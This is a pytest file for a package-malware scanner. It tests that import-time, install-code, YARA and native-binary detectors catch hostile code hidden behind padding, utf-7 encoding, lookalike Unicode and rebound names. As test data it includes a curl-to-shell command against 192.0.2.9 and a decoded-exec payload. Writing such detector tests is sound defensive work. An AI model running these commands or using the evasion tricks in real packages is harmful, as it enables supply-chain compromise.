"""What stands behind a limit of ours is told, and counts by what is in it."""

import pytest

from bench.screening.attacks import beyond
from sandboxes.screening.detectors import (
    import_time,
    install_code,
    native,
    reading_code,
    run_state,
    yara_rules,
)
from sandboxes.screening.detectors.reading_code import Part, parts_at
from sandboxes.screening.findings import Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told

PAYLOAD = f"import base64\n{beyond.PAYLOAD}"
UNSEEN = "import-time.not-looked-at"
TABLE = "x = [\n" + "1, 2, 3,\n" * 200_000 + "]\n"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 100
SHELL = "import os\nos.system('curl http://192.0.2.9/x | sh')\n"


def rules(text: str, **others: str) -> set[tuple[str, Threat]]:
    files = {"thing/__init__.py": text, **{f"thing/{name}.py": content for name, content in others.items()}}
    return {(rule, threat) for rule, _, threat in told(found_in(import_time, files))}


@pytest.mark.parametrize("number", range(4))
def test_the_same_line_behind_what_is_long_or_deep_is_no_less_than_a_warning(number: int) -> None:
    attack = beyond.ATTACKS[number]
    threats = {each.threat for each in found_in(import_time, attack.release.files)}
    assert threats & {Threat.HIGH, Threat.CRITICAL}


def test_conditions_beside_each_other_are_not_deep() -> None:
    text = "import base64\nif 0: pass\n" + "elif 0: pass\n" * 500 + f"else:\n  {beyond.PAYLOAD}"
    assert rules(text) == {("import-time.exec-decoded", Threat.CRITICAL)}


@pytest.mark.parametrize(
    ("text", "threat"),
    [
        (TABLE + PAYLOAD, Threat.HIGH),
        (TABLE + "import subprocess\n", Threat.MEDIUM),
        (TABLE, Threat.LOW),
        ("# coding: utf-7\n" + TABLE + PAYLOAD.replace("exec", "+AGUAeABlAGM-"), Threat.HIGH),
        (TABLE + PAYLOAD.replace("exec", "𝘦𝘹𝘦𝘤"), Threat.HIGH),
    ],
)
def test_what_is_too_large_counts_by_its_words(text: str, threat: Threat) -> None:
    assert rules(text) == {(UNSEEN, threat)}


def test_what_is_too_large_among_tests_counts_when_it_is_imported() -> None:
    files = {"thing/__init__.py": "x = 1\n", "thing/tests/data.py": TABLE + PAYLOAD}
    assert told(found_in(import_time, files)) == {(UNSEEN, 0, Threat.LOW)}
    files["thing/__init__.py"] = "from .tests import data\n"
    assert told(found_in(import_time, files)) == {(UNSEEN, 0, Threat.HIGH)}


def test_files_that_fill_the_budget_do_not_push_out_what_fetches_and_runs() -> None:
    filling = "import subprocess\n" + "x = 1\n" * 230_000
    found = rules("from . import a1, a2, z\n", a1=filling, a2=filling, z=PAYLOAD)
    assert ("import-time.exec-decoded", Threat.CRITICAL) in found
    assert rules("", a1=filling + PAYLOAD, a2=filling + PAYLOAD, z=PAYLOAD) >= {(UNSEEN, Threat.HIGH)}


OFTEN = "import base64\ndef run(e, d, k):\n    e(d(k))\n"


def test_a_function_that_was_called_often_is_looked_at_when_it_is_given_something_else() -> None:
    call = f"run(exec, base64.b64decode, {beyond.PAYLOAD.split('"')[1]!r})\n"
    assert ("import-time.exec-decoded", Threat.CRITICAL) in rules(OFTEN + "run(print, str, 1)\n" * 9 + call)
    different = "".join(f"run(print, str, {number})\n" for number in range(20))
    assert rules(OFTEN + different + call) == {(UNSEEN, Threat.HIGH)}
    assert rules(OFTEN + different + "import socket, subprocess\n") == set()


@pytest.mark.parametrize(
    "text",
    [
        # What it calls changes, and its arguments do not.
        (
            "def f():\n    e(d(k))\ne, d, k = print, str, 1\nf()\nf()\nf()\n"
            "e, d, k = exec, base64.b64decode, 'cGFzcw=='\nf()\n"
        ),
        "e, d = print, str\ndef g():\n    global e, d\n    e, d = exec, base64.b64decode\ng()\ne(d('cGFzcw=='))\n",
        (
            "def f():\n    e = print\n    def g():\n        nonlocal e\n        e = exec\n    g()\n"
            "    e(base64.b64decode('cGFzcw=='))\nf()\n"
        ),
    ],
)
def test_names_that_come_to_mean_something_else(text: str) -> None:
    assert ("import-time.exec-decoded", Threat.CRITICAL) in rules(f"import base64\n{text}")


def test_many_harmless_acts_hide_no_later_one_in_silence() -> None:
    text = "compile('1', '', 'eval')\n" * (run_state.EVENTS + 1) + PAYLOAD
    assert (UNSEEN, Threat.HIGH) in rules(text)


def test_an_installation_that_is_too_much_is_told() -> None:
    def told_of(text: str) -> set[tuple[str, Threat]]:
        found = told(found_in(install_code, {"setup.py": text}, Kind.SDIST))
        return {(rule, threat) for rule, _, threat in found}

    chain = str(beyond.ATTACKS[0].release.files["text_kit/__init__.py"])
    assert told_of(chain) == {("install-code.unread", Threat.HIGH)}
    lines = "import os\n" + "x = os.environ.get('a')\n" * 40_000
    assert told_of(lines) == {("install-code.unread", Threat.LOW)}


def test_thousands_of_conditions_around_a_line_are_no_recursion() -> None:
    text = "import os\nif 0: pass\n" + "elif 0: pass\n" * 2500 + "else: os.system('x')\n"
    assert parts_at(text, {2503}) == {Part.OTHER}
    text = text.replace("'x'", "'curl http://192.0.2.9/x | sh'")
    assert [each.line for each in found_in(yara_rules, {"thing/a.py": text})] == [2503]


def test_patterns_say_where_they_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "LARGEST", 100)
    files = {"a.py": "#" * 101, "b.so": "x" * 101, "c.dat": "x" * 101, "d.py": "#" * 100}
    found = {(each.rule, each.path, each.threat) for each in found_in(yara_rules, files)}
    assert found == {
        ("yara.unfinished", "a.py", Threat.MEDIUM),
        ("yara.unfinished", "b.so", Threat.LOW),  # and c.dat, in one
    }


def test_machine_code_is_found_behind_any_number_of_larger_files() -> None:
    filling = {f"thing/{number}.xyz": b"\0" * 2000 for number in range(501)}
    found = found_in(native, {**filling, "thing/m.so": ELF, "thing/readme.md": ELF})
    assert {(each.rule, each.path) for each in found} == {
        ("native.in-pure-wheel", "thing/m.so"),
        ("native.disguised", "thing/readme.md"),
    }


PREFIX = "thing-1.0.data/data"


@pytest.mark.parametrize(
    ("path", "module"),
    [
        ("thing-1.0.data/purelib/thing/__init__.py", "thing"),
        (f"{PREFIX}/lib/python3.13/site-packages/thing/a.py", "thing.a"),
        (f"{PREFIX}/usr/lib/python3/dist-packages/thing/a.py", "thing.a"),
        (f"{PREFIX}/Lib/site-packages/thing.py", "thing"),
        (f"{PREFIX}/lib/python3.13/os.py", "os"),
        ("demo/__init__.py", "demo"),
        ("testing/a.py", "testing.a"),
        ("test_thing.py", "test_thing"),
    ],
)
def test_where_python_imports_from_is_looked_at(path: str, module: str) -> None:
    assert reading_code.module_of(path) == module
    assert told(found_in(import_time, {path: SHELL})) == {
        ("import-time.process-fetching", 2, Threat.CRITICAL)
    }


@pytest.mark.parametrize("path", ["thing/demo/a.py", "thing/test_a.py", "thing-1.0.data/scripts/thing.py"])
def test_where_nothing_is_imported_from_by_itself(path: str) -> None:
    assert found_in(import_time, {path: SHELL}) == []


def test_the_folders_of_a_source_distribution_say_what_they_are() -> None:
    assert found_in(import_time, {"demo/a.py": SHELL}, Kind.SDIST) == []
